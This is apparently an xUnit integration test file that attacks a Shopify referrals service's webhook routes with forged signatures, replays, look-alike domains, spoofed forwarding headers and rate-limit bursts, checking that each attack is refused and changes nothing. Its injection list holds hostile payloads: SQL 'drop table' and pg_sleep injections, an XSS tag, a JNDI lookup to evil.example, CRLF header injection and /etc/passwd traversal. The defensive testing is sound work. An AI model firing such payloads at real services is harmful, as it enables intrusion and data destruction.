using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text.Json;
using Npgsql;
using Referrals.Service.Tests.Infrastructure;

namespace Referrals.Service.Tests.Security;

/// <summary>
/// A hostile caller against every webhook route: each attempt gets its defined status, changes nothing (neither the
/// registry nor the target shop's processed_events), and logs no error (the fixture fails the run on one).
/// </summary>
[Collection(IntegrationTier.Name)]
public sealed class HostileWebhookTests(ReferralsApp app)
{
    public static readonly string[] Routes = ["/orders/create", "/app/uninstalled", "/customers/data_request", "/customers/redact", "/shop/redact"];

    private static readonly int[] OrdersRequested = [1];

    private static readonly ConcurrentDictionary<string, Lazy<Task<ShopifyWebhooks.DevShop>>> Shops = new();

    /// <summary>An attempt: what it does to a valid webhook of the route for the target shop, and the status it must get.</summary>
    public sealed record Attempt(string Name, Func<string, ShopifyWebhooks.DevShop, HttpRequestMessage> Request, HttpStatusCode Status,
        string? Problem = null);

    private static readonly string[] Injections =
    [
        "'; drop table referrals.mt_doc_shop; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "dev-shop.myshopify.com%0d%0aX-Injected:%201",
        "../../../../etc/passwd",
        "processed:*",
    ];

    private static readonly Attempt[] Attempts =
    [
        new("forged signature", (route, shop) => Webhook(route, shop, signature: Convert.ToBase64String(RandomNumberGenerator.GetBytes(32))),
            HttpStatusCode.Unauthorized, "invalid_signature"),
        new("absent signature", (route, shop) => Webhook(route, shop, signature: ""), HttpStatusCode.Unauthorized, "invalid_signature"),
        new("garbage signature", (route, shop) => Webhook(route, shop, signature: "not base64 at all!!" + new string('=', 200)),
            HttpStatusCode.Unauthorized, "invalid_signature"),
        new("a third, unknown secret", (route, shop) => Webhook(route, shop with { Secret = "third-webhook-secret" }),
            HttpStatusCode.Unauthorized, "invalid_signature"),
        new("oversized body", (route, shop) => Webhook(route, shop, body: JsonSerializer.Serialize(new { id = 1, padding = new string('x', 300 * 1024) })),
            HttpStatusCode.RequestEntityTooLarge, "payload_too_large"),
        new("malformed JSON", (route, shop) => Webhook(route, shop, body: "{\"id\": 5, \"customer\": "), HttpStatusCode.BadRequest, "malformed_payload"),
        new("JSON that is not an object", (route, shop) => Webhook(route, shop, body: "[]"), HttpStatusCode.BadRequest, "malformed_payload"),
        new("an unregistered shop", (route, shop) => Webhook(route, shop with { Domain = "never-registered-shop.myshopify.com" }),
            HttpStatusCode.Unauthorized, "invalid_signature"),
        new("a look-alike domain", (route, shop) => Webhook(route, shop with { Domain = shop.Domain + ".evil.com" }),
            HttpStatusCode.Unauthorized, "invalid_signature"),
        new("the look-alike of a dev shop", (route, shop) => Webhook(route, shop with { Domain = "dev-shop.myshopify.com.evil.com" }),
            HttpStatusCode.Unauthorized, "invalid_signature"),
        .. Injections.Select(injection => new Attempt($"shop domain {injection}",
            (route, shop) => Webhook(route, shop with { Domain = injection }), HttpStatusCode.Unauthorized, "invalid_signature")),
        .. Injections.Select(injection => new Attempt($"webhook id {injection}",
            (route, shop) => Webhook(route, shop, webhookId: injection), HttpStatusCode.BadRequest, "missing_webhook_id")),
        new("a webhook id of 200 characters", (route, shop) => Webhook(route, shop, webhookId: new string('a', 200)),
            HttpStatusCode.BadRequest, "missing_webhook_id"),
        new("no webhook id", (route, shop) => Webhook(route, shop, webhookId: ""), HttpStatusCode.BadRequest, "missing_webhook_id"),
    ];

    /// <summary>Replays and clock games: refused where the route checks X-Shopify-Triggered-At (not orders/create, see its own test).</summary>
    private static readonly Attempt[] Replays =
    [
        new("a capture replayed after the window", (route, shop) => Webhook(route, shop, triggeredAt: DateTimeOffset.UtcNow.AddHours(-7)),
            HttpStatusCode.BadRequest, "stale_webhook"),
        new("a capture replayed days later", (route, shop) => Webhook(route, shop, triggeredAt: DateTimeOffset.UtcNow.AddDays(-30)),
            HttpStatusCode.BadRequest, "stale_webhook"),
        new("a trigger time in the future", (route, shop) => Webhook(route, shop, triggeredAt: DateTimeOffset.UtcNow.AddDays(1)),
            HttpStatusCode.BadRequest, "stale_webhook"),
        new("an unreadable trigger time", (route, shop) => Webhook(route, shop, triggeredAtText: "'; select pg_sleep(10); --"),
            HttpStatusCode.BadRequest, "stale_webhook"),
        new("no trigger time", (route, shop) => Webhook(route, shop, triggeredAtText: ""), HttpStatusCode.BadRequest, "stale_webhook"),
    ];

    public static TheoryData<string, string> Corpus()
    {
        var data = new TheoryData<string, string>();
        foreach (var route in Routes)
        {
            foreach (var attempt in Attempts)
                data.Add(route, attempt.Name);
            if (route != "/orders/create")
            {
                foreach (var attempt in Replays)
                    data.Add(route, attempt.Name);
            }
        }
        return data;
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public async Task A_hostile_webhook_gets_its_defined_status_and_changes_nothing(string route, string attemptName)
    {
        var ct = TestContext.Current.CancellationToken;
        var attempt = Attempts.Concat(Replays).Single(a => a.Name == attemptName);
        var shop = await CorpusShopAsync(route, active: true, ct);
        using var http = app.CreateHttpClient();
        var before = await StateAsync(shop, ct);

        var response = await SendAsync(http, () => attempt.Request(route, shop), ct);

        response.StatusCode.ShouldBe(attempt.Status);
        if (attempt.Problem is not null)
            (await response.Content.ReadAsStringAsync(ct)).ShouldContain(attempt.Problem);
        (await StateAsync(shop, ct)).ShouldBe(before);
    }

    [Theory]
    [InlineData("/orders/create")]
    [InlineData("/app/uninstalled")]
    public async Task A_signed_webhook_of_an_inactive_shop_gets_200_and_changes_nothing(string route)
    {
        var ct = TestContext.Current.CancellationToken;
        var shop = await CorpusShopAsync(route, active: false, ct);
        using var http = app.CreateHttpClient();
        var before = await StateAsync(shop, ct);

        var response = await SendAsync(http, () => Webhook(route, shop), ct);
        await Task.Delay(TimeSpan.FromSeconds(1), ct);

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await StateAsync(shop, ct)).ShouldBe(before);
    }

    [Fact]
    public async Task A_captured_order_replayed_under_a_new_webhook_id_and_an_old_trigger_time_gets_200_and_changes_nothing()
    {
        var ct = TestContext.Current.CancellationToken;
        var shop = await CorpusShopAsync("/orders/create", active: true, ct);
        using var http = app.CreateHttpClient();
        var captured = ShopifyWebhooks.Order(731);
        (await http.PostOrderAsync(shop, captured, ct: ct)).StatusCode.ShouldBe(HttpStatusCode.OK);
        var before = await StateAsync(shop, ct);

        var replayed = await SendAsync(http, () => Webhook("/orders/create", shop, body: captured, triggeredAt: DateTimeOffset.UtcNow.AddDays(-2)), ct);

        replayed.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await StateAsync(shop, ct)).ShouldBe(before);
    }

    [Fact]
    public async Task A_spoofed_x_forwarded_for_from_a_caller_that_is_no_known_proxy_does_not_buy_a_fresh_rate_limit_partition()
    {
        var ct = TestContext.Current.CancellationToken;
        using var http = app.CreateHttpClient();

        var burst = await BurstAsync(http, "/orders/create", request => request.Headers.Add("X-Forwarded-For", RandomAddress()), 250, ct);

        burst.ShouldContain(HttpStatusCode.TooManyRequests);
    }

    [Fact]
    public async Task Through_the_known_proxy_each_forwarded_client_has_its_own_rate_limit_partition()
    {
        var ct = TestContext.Current.CancellationToken;
        using var proxy = ThroughKnownProxy();

        var distinct = await BurstAsync(proxy, "/orders/create", request => request.Headers.Add("X-Forwarded-For", RandomAddress()), 150, ct);
        var oneClient = await BurstAsync(proxy, "/orders/create", request => request.Headers.Add("X-Forwarded-For", "203.0.113.77"), 250, ct);

        distinct.ShouldNotContain(HttpStatusCode.TooManyRequests);
        oneClient.ShouldContain(HttpStatusCode.TooManyRequests);
    }

    [Theory]
    [InlineData("/customers/data_request")]
    [InlineData("/customers/redact")]
    [InlineData("/shop/redact")]
    [InlineData("/app/uninstalled")]
    public async Task A_burst_from_one_address_on_a_webhook_route_is_limited(string route)
    {
        var ct = TestContext.Current.CancellationToken;
        using var http = app.CreateHttpClient();

        var burst = await BurstAsync(http, route, _ => { }, 250, ct);

        burst.ShouldContain(HttpStatusCode.TooManyRequests);
    }

    /// <summary>A valid webhook of <paramref name="route"/> for <paramref name="shop"/>, with one thing changed.</summary>
    private static HttpRequestMessage Webhook(string route, ShopifyWebhooks.DevShop shop, string? body = null, string? signature = null,
        string? webhookId = null, DateTimeOffset? triggeredAt = null, string? triggeredAtText = null)
    {
        body ??= route switch
        {
            "/orders/create" => ShopifyWebhooks.Order(733),
            "/app/uninstalled" => ShopifyWebhooks.ShopBody(shop),
            _ => JsonSerializer.Serialize(new { shop_id = 1, shop_domain = shop.Domain, customer = new { id = 999_999 }, orders_requested = OrdersRequested }),
        };
        var request = ShopifyWebhooks.SignedWebhook(route, shop, body, webhookId ?? Guid.NewGuid().ToString(), triggeredAt);
        if (signature is not null)
        {
            request.Headers.Remove("X-Shopify-Hmac-Sha256");
            if (signature.Length > 0)
                request.Headers.TryAddWithoutValidation("X-Shopify-Hmac-Sha256", signature);
        }
        if (webhookId == "")
            request.Headers.Remove("X-Shopify-Webhook-Id");
        if (triggeredAtText is not null)
        {
            request.Headers.Remove("X-Shopify-Triggered-At");
            if (triggeredAtText.Length > 0)
                request.Headers.TryAddWithoutValidation("X-Shopify-Triggered-At", triggeredAtText);
        }
        return request;
    }

    /// <summary>One registered shop per route and state, so an attempt that wrongly acted shows in that shop's rows only.</summary>
    private Task<ShopifyWebhooks.DevShop> CorpusShopAsync(string route, bool active, CancellationToken ct) =>
        Shops.GetOrAdd($"{route} {active}", _ => new Lazy<Task<ShopifyWebhooks.DevShop>>(async () =>
        {
            var shop = ShopifyWebhooks.NewShop(active ? "hostile" : "hostile-inactive");
            (await app.PutShopAsync(shop.Id, shop.Domain, active, ct)).EnsureSuccessStatusCode();
            return shop;
        })).Value;

    private async Task<string> StateAsync(ShopifyWebhooks.DevShop shop, CancellationToken ct)
    {
        await using var connection = new NpgsqlConnection(app.DatabaseConnectionString);
        await connection.OpenAsync(ct);
        await using var command = new NpgsqlCommand(
            "select count(*) from referrals.mt_doc_processed_events where tenant_id = @shop", connection);
        command.Parameters.AddWithValue("shop", shop.Id.ToString());
        return $"{await command.ExecuteScalarAsync(ct)} processed; registry: {await app.RegistrySnapshotAsync(ct)}";
    }

    /// <summary>Sends like Shopify retries: a 429 (another test's burst in the same second) is sent again after a second.</summary>
    private static async Task<HttpResponseMessage> SendAsync(HttpClient http, Func<HttpRequestMessage> request, CancellationToken ct)
    {
        for (var attempt = 1; ; attempt++)
        {
            var response = await http.SendAsync(request(), ct);
            if (response.StatusCode != HttpStatusCode.TooManyRequests || attempt == 5)
                return response;
            await Task.Delay(TimeSpan.FromSeconds(1), ct);
        }
    }

    /// <summary>Unsigned requests at once (refused 401 by the door, or 429 by the per-IP limit in front of it).</summary>
    private static async Task<IReadOnlyList<HttpStatusCode>> BurstAsync(HttpClient http, string route, Action<HttpRequestMessage> shape, int count,
        CancellationToken ct)
    {
        var answers = await Task.WhenAll(Enumerable.Range(0, count).Select(async _ =>
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, route) { Content = new StringContent("{}") };
            shape(request);
            using var response = await http.SendAsync(request, ct);
            return response.StatusCode;
        }));
        await Task.Delay(TimeSpan.FromSeconds(1.1), ct); // the next test starts in a fresh window
        return answers;
    }

    private static string RandomAddress() =>
        $"198.51.{RandomNumberGenerator.GetInt32(0, 256)}.{RandomNumberGenerator.GetInt32(1, 255)}";

    /// <summary>
    /// A client whose connections come from 127.0.0.2, the known proxy of the dev configuration
    /// (`ForwardedHeaders:KnownProxies`): a stand-in for the gateway in front of the service.
    /// </summary>
    private HttpClient ThroughKnownProxy() => new(new SocketsHttpHandler
    {
        ConnectCallback = async (context, ct) =>
        {
            var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            try
            {
                socket.Bind(new IPEndPoint(IPAddress.Parse("127.0.0.2"), 0));
                await socket.ConnectAsync(context.DnsEndPoint, ct);
                return new NetworkStream(socket, ownsSocket: true);
            }
            catch
            {
                socket.Dispose();
                throw;
            }
        },
    })
    { BaseAddress = app.HttpAddress, Timeout = TimeSpan.FromSeconds(30) };
}
